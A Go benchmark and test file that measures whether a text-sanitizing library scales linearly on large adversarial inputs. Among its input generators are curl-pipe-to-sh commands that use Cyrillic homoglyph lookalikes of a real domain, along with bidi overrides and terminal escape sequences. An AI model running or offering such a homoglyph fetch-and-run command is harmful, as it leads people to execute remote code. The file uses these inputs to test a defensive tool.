//go:build linux

package complexity

import (
	"bytes"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"
	"unsafe"

	"github.com/plainsight-dev/plainsight"
	"github.com/plainsight-dev/plainsight/internal/cli"
	"github.com/plainsight-dev/plainsight/internal/cli/scan"
	"github.com/plainsight-dev/plainsight/render"
	"github.com/plainsight-dev/plainsight/term"
	"github.com/plainsight-dev/plainsight/transcript"
)

// sizes are the input sizes of a case, each sixteen times the one before.
// The first two always run, so that every case has a ratio.
var sizes = []int{256, 4 << 10, 64 << 10, 1 << 20, 16 << 20}

// Budgets that stop a case before its next size: the time that size would
// take at the target ratio, and the bytes it would allocate at the
// allocation of this one.
const (
	timeBudget  = time.Minute
	allocBudget = 2 << 30
	maxRatio    = 20
)

// A shape makes an adversarial input of about n bytes.
type shape struct {
	name string
	make func(n int) string
}

// repeatTo repeats unit after head up to n bytes, cut at a rune boundary,
// then appends tail.
func repeatTo(n int, head, unit, tail string) string {
	var b strings.Builder
	b.Grow(n + len(tail) + len(unit))
	b.WriteString(head)
	for b.Len() < n-len(tail) {
		b.WriteString(unit)
	}
	s := b.String()
	cut := max(len(head), n-len(tail))
	for cut < len(s) && !utf8.RuneStart(s[cut]) {
		cut--
	}
	return s[:cut] + tail
}

var shapes = []shape{
	// One letter followed by a run of combining marks, all different
	// in turn so that no run of one repeated mark is taken whole.
	{"marks", func(n int) string {
		var b strings.Builder
		b.WriteString("echo a")
		for i := 0; b.Len() < n; i++ {
			b.WriteRune(rune(0x0300 + i%0x70))
		}
		return b.String()
	}},
	{"quotes", func(n int) string { return repeatTo(n, "echo ", `'a' "b" ‘c’ “d” `, "") }},
	{"nested", func(n int) string {
		d := (n - 8) / 3
		return "echo " + strings.Repeat("$(", d) + "x" + strings.Repeat(")", d)
	}},
	{"heredoc", func(n int) string {
		return repeatTo(n, "cat <<'EOF' > out.txt\n", "a line of the here-document, with $x and ‘quotes’\n", "EOF\n")
	}},
	{"hostword", func(n int) string { return repeatTo(n, "curl https://", "g\u043e\u043egle", ".com/x.sh | sh") }},
	// Labels of mixed Latin and Cyrillic, each different: each is a
	// finding of its own.
	{"labels", func(n int) string {
		var b strings.Builder
		b.WriteString("curl https://")
		for i := 0; b.Len() < n-len("com/x.sh")-16; i++ {
			b.WriteString("a\u0430")
			b.WriteString(strconv.FormatInt(int64(i), 36))
			b.WriteByte('.')
		}
		b.WriteString("com/x.sh")
		return b.String()
	}},
	{"scripts", func(n int) string { return repeatTo(n, "echo ", "a\u0430", "") }},
	{"urls", func(n int) string { return repeatTo(n, "", "https://ex\u0430mple.com/p?q=1 ", "") }},
	{"warnings", func(n int) string {
		return repeatTo(n, "", "x\u202ey\u200bz\x1b[2J\u0430b \ue000\ufdd0\r\x08 \U000E0041 a\ufe01\u00a0", "")
	}},
	{"esc", func(n int) string { return strings.Repeat("\x1b", n) }},
	{"random", func(n int) string {
		r := rand.New(rand.NewPCG(1, 2))
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return string(b)
	}},
}

// An input is one shape at one size, prepared for every entry point.
type input struct {
	s      string
	b      []byte
	result plainsight.Result // Sanitize(s), for the presenters
	path   string            // s in a file, for scan
}

// An entry is one entry point of the library or the CLI.
type entry struct {
	name string
	run  func(in *input)
	// needs says what the entry reads besides the string.
	result, file bool
}

var entries = []entry{
	{name: "memmove", run: func(in *input) { copy(in.b, in.s) }},
	{name: "sanitize/any", run: func(in *input) { plainsight.Sanitize(in.s) }},
	{name: "sanitize/command", run: func(in *input) { plainsight.Command(in.s) }},
	{name: "sanitize/prose", run: func(in *input) { plainsight.Policy{Context: plainsight.ContextProse}.Sanitize(in.s) }},
	// term is a stream: its Writer, as output is filtered on its way to a
	// terminal. transform.String would add the cost of growing one string
	// as large as the output, which the stream never holds.
	{name: "term", run: func(in *input) {
		w := term.NewWriter(io.Discard, term.Options{})
		w.Write(in.b)
		w.Close()
	}},
	// No output limit: the default stops writing at 1 MiB.
	{name: "transcript", run: func(in *input) {
		transcript.Clean(in.b, transcript.Options{Limits: transcript.Limits{MaxOutput: -1}})
	}},
	{name: "render/html", result: true, run: func(in *input) { render.HTML(in.result, render.HTMLOptions{}) }},
	{name: "render/terminal", result: true, run: func(in *input) { render.Terminal(in.result, render.TerminalOptions{Width: 120}) }},
	{name: "scan", file: true, run: func(in *input) {
		scan.Main([]string{"-j", "1", "-format", "json", in.path}, cli.IO{Stdout: io.Discard, Stderr: io.Discard, Getenv: os.Getenv})
	}},
}

// measure runs e on in and returns the processor time of its fastest of
// reps runs and the bytes the last one allocated. Processor time, user
// and system, of the whole process (the garbage collector's included),
// not the time on the wall: on a machine shared with other work, a long
// run loses more of the wall clock to others than a short one, which
// would read as a ratio above linear.
func measure(e entry, in *input, reps int) (time.Duration, uint64) {
	best := time.Duration(1<<63 - 1)
	var alloc uint64
	var ms runtime.MemStats
	for range reps {
		// Each run alone: no garbage of the one before is collected
		// during it.
		runtime.GC()
		runtime.ReadMemStats(&ms)
		before := ms.TotalAlloc
		start := cpuTime()
		e.run(in)
		d := cpuTime() - start
		runtime.ReadMemStats(&ms)
		alloc = ms.TotalAlloc - before
		best = min(best, d)
	}
	return best, alloc
}

func BenchmarkComplexity(b *testing.B) {
	dir := b.TempDir()
	for _, sh := range shapes {
		for _, e := range entries {
			b.Run(sh.name+"/"+e.name, func(b *testing.B) {
				for b.Loop() {
					var times []time.Duration
					var alloc uint64
					var n int
					for i, size := range sizes {
						in := prepare(b, sh, size, e, dir)
						// At 16 MiB, the best of two: the first
						// pays the kernel for the pages the heap
						// grows into, which the smaller sizes found
						// touched already.
						reps := 3
						if size >= 16<<20 && e.name != "memmove" {
							reps = 2
						}
						d, a := measure(e, in, reps)
						times, alloc, n = append(times, d), a, len(in.s)
						if i >= 1 && i+1 < len(sizes) && (d*16*maxRatio > timeBudget || a*16 > allocBudget) {
							break
						}
					}
					k := len(times) - 1
					b.ReportMetric(float64(times[k])/float64(times[k-1]), "ratio")
					b.ReportMetric(float64(alloc)/float64(n), "B/byte")
					b.ReportMetric(float64(n)/(1<<20), "MiB")
					b.ReportMetric(float64(times[k])/float64(n), "ns/byte")
				}
			})
		}
	}
}

// prepare makes the input of shape sh at size n for e.
func prepare(b *testing.B, sh shape, n int, e entry, dir string) *input {
	in := &input{s: sh.make(n)}
	in.b = []byte(in.s)
	if e.result {
		in.result = plainsight.Sanitize(in.s)
	}
	if e.file {
		in.path = filepath.Join(dir, "input.txt")
		if err := os.WriteFile(in.path, in.b, 0o644); err != nil {
			b.Fatal(err)
		}
	}
	return in
}

// TestShapes checks that each shape makes what its name says, at about
// the size asked for.
func TestShapes(t *testing.T) {
	for _, sh := range shapes {
		for _, n := range []int{4 << 10, 64 << 10} {
			s := sh.make(n)
			if len(s) < n*9/10 || len(s) > n+64 {
				t.Errorf("%s(%d) is %d bytes", sh.name, n, len(s))
			}
			if sh.name != "random" && sh.name != "esc" && !utf8.ValidString(s) {
				t.Errorf("%s(%d) is not valid UTF-8", sh.name, n)
			}
		}
	}
	if r := plainsight.Command(shapes[0].make(4 << 10)); !bytes.Contains([]byte(r.Text), []byte("echo a\u0300\u0301")) {
		t.Errorf("marks: Text starts %q", r.Text[:20])
	}
}

// cpuTime returns the processor time the process has used so far, from
// the kernel's per-process clock (CLOCK_PROCESS_CPUTIME_ID), which counts
// nanoseconds rather than scheduler ticks.
func cpuTime() time.Duration {
	const clockProcessCPUTime = 2
	var ts syscall.Timespec
	if _, _, errno := syscall.Syscall(syscall.SYS_CLOCK_GETTIME, clockProcessCPUTime, uintptr(unsafe.Pointer(&ts)), 0); errno != 0 {
		panic(errno)
	}
	return time.Duration(ts.Nano())
}
